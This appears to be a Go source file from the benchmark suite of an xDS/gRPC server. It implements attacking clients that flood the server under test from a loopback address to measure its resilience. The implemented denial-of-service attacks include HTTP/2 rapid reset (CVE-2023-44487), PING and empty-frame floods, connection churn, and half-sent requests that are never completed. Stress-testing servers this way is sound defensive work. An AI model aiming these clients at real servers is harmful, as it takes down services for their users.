// Package attack contains malicious clients, for a separate process. An attack of each kind repeats one action
// on several connections, as fast as the server accepts it. A connection that ends is opened again after a
// short pause. The process uses one processor at the lowest priority, since real attackers run on other machines.
package attack

import (
	"context"
	"fmt"
	"io"
	"maps"
	"net"
	"slices"
	"sync"
	"time"

	"github.com/xdstender/tender/bench/content"
	"github.com/xdstender/tender/bench/h2"
	"github.com/xdstender/tender/bench/process"
)

// kinds maps the names of the attacks to their functions. A function runs on one connection until that ends.
var kinds = map[string]func(*attacker) error{
	"frames of nothing":  (*attacker).frames,
	"pings":              (*attacker).pings,
	"rapid reset":        (*attacker).rapidReset,
	"small requests":     (*attacker).smallRequests,
	"too many names":     (*attacker).tooManyNames,
	"requests in pieces": (*attacker).pieces,
	"nothing is read":    (*attacker).nothingIsRead,
	"connections":        (*attacker).connections,
	"large Nodes":        (*attacker).largeNodes,
	"small Nodes":        (*attacker).smallNodes,
	"changed Nodes":      (*attacker).changedNodes,
	"compressed Nodes":   (*attacker).bombs,
	"streams":            (*attacker).streams,
	"health watches":     (*attacker).watches,
	"node groups":        (*attacker).groups,
	"invented names":     (*attacker).inventedNames,
	"further names":      (*attacker).furtherNames,
	"further globs":      (*attacker).furtherGlobs,
	"other names":        (*attacker).otherNames,
	"same names":         (*attacker).sameNames,
	"polls":              (*attacker).polls,
	"load reports":       (*attacker).loadReports,
}

// Returns reports whether the attack consists of many short connections, which the client or the server closes.
func Returns(kind string) bool { return kind == "connections" || kind == "pings" }

// Compared reports whether the cost of the attack for other clients is compared with the same attack on another server.
// Otherwise it is compared with peace.
func Compared(kind string) bool {
	return slices.Contains([]string{"further names", "further globs", "other names", "same names"}, kind)
}

// Kinds returns the names of all attacks, sorted.
func Kinds() []string { return slices.Sorted(maps.Keys(kinds)) }

// An Order is the argument of [Attack.Start]. Address is the server for streams, and Polls the one for REST polls.
type Order struct {
	Kind, Address, Polls string
	Connections          int
}

// An Attack runs between Start and Stop. The driver calls its methods with [net/rpc], one at a time.
type Attack struct {
	cancel context.CancelFunc
	done   sync.WaitGroup
}

// Start starts an attack, and does not wait.
func (a *Attack) Start(o Order, _ *struct{}) error {
	attack, ok := kinds[o.Kind]
	if !ok {
		return fmt.Errorf("attack %q: there is none", o.Kind)
	}
	ctx, cancel := context.WithCancel(context.Background())
	a.cancel = cancel
	if err := process.GiveWay(); err != nil {
		return err
	}
	for range o.Connections {
		a.done.Go(func() {
			for ctx.Err() == nil {
				t := &attacker{ctx: ctx, address: o.Address, polled: o.Polls}
				_ = attack(t) // the loop reconnects after any error
				t.close()
				away(ctx)
			}
		})
	}
	return nil
}

// Stop ends the attack, and returns once all of its connections are closed.
func (a *Attack) Stop(struct{}, *struct{}) error {
	a.cancel()
	a.done.Wait()
	return nil
}

// An attacker is one connection of an attack.
type attacker struct {
	ctx     context.Context
	address string
	polled  string      // address for REST polls
	conn    net.Conn    // nil before open
	over    func() bool // cancels closing conn at the end of the attack
}

// source is the source address of attacks. It differs from that of the clients, so that
// the relay treats the attacker as another host.
var source = &net.TCPAddr{IP: net.IPv4(127, 0, 0, 66)}

// dial connects from the source address of attacks.
func dial(ctx context.Context, address string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: source}
	return d.DialContext(ctx, "tcp", address)
}

// path is the gRPC method of all streams.
const path = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"

// away waits as long as a reconnect from another host takes at least. Without the pause, reconnects from this host
// would take CPU time from the measured processes.
func away(ctx context.Context) {
	pause := time.NewTimer(5 * time.Millisecond)
	defer pause.Stop()
	select {
	case <-pause.C:
	case <-ctx.Done():
	}
}

// open connects and opens the first stream. The connection is closed when the attack ends.
func (a *attacker) open() (err error) {
	if a.conn, err = dial(a.ctx, a.address); err != nil {
		return err
	}
	conn := a.conn
	a.over = context.AfterFunc(a.ctx, func() { _ = conn.Close() })
	return a.write(h2.ClientPreface(path))
}

// close closes the connection with a reset, if it is open.
func (a *attacker) close() {
	if a.conn != nil {
		a.over()
		_ = a.conn.(*net.TCPConn).SetLinger(0) // no TIME_WAIT, in which ports would run out
		_ = a.conn.Close()
	}
}

func (a *attacker) write(b []byte) error {
	_, err := a.conn.Write(b)
	return err
}

// repeat opens the connection, discards input, and writes the results of next until the connection ends.
func (a *attacker) repeat(next func() []byte) error {
	if err := a.open(); err != nil {
		return err
	}
	go func() { _, _ = io.Copy(io.Discard, a.conn) }() // ends with the connection
	for {
		if err := a.write(next()); err != nil {
			return err
		}
	}
}

// frames sends valid frames without effect.
func (a *attacker) frames() error {
	var batch []byte
	for range 1000 {
		batch = h2.AppendNothing(batch)
	}
	return a.repeat(func() []byte { return batch })
}

// pings sends PING frames.
func (a *attacker) pings() error {
	var batch []byte
	for range 1000 {
		batch = h2.AppendPing(batch)
	}
	return a.repeat(func() []byte { return batch })
}

// rapidReset opens streams and resets each one at once (CVE-2023-44487).
func (a *attacker) rapidReset() error {
	stream := uint32(h2.Stream)
	return a.repeat(func() (batch []byte) {
		for range 100 {
			stream += 2
			batch = h2.AppendReset(h2.AppendCall(batch, path, stream), stream)
		}
		return batch
	})
}

// connections connects and closes the connection at once.
func (a *attacker) connections() error {
	return a.open()
}

// nothingIsRead subscribes to all clusters, and never reads from the connection.
func (a *attacker) nothingIsRead() error {
	if err := a.open(); err != nil {
		return err
	}
	if err := a.conn.(*net.TCPConn).SetReadBuffer(4 << 10); err != nil {
		return err
	}
	if err := a.write(h2.AppendMessage(nil, everything(content.Cluster))); err != nil {
		return err
	}
	<-a.ctx.Done()
	return nil
}

// pieces sends the start of a large request on many streams, as far as the flow-control windows admit, and never
// completes a request.
func (a *attacker) pieces() error {
	const streams, part = 2000, 60 << 10
	stream := uint32(h2.Stream)
	return a.repeat(func() []byte {
		if stream += 2; stream > 2*streams {
			<-a.ctx.Done()
			return nil
		}
		return h2.AppendPart(h2.AppendCall(nil, path, stream), stream, 15<<20, part)
	})
}
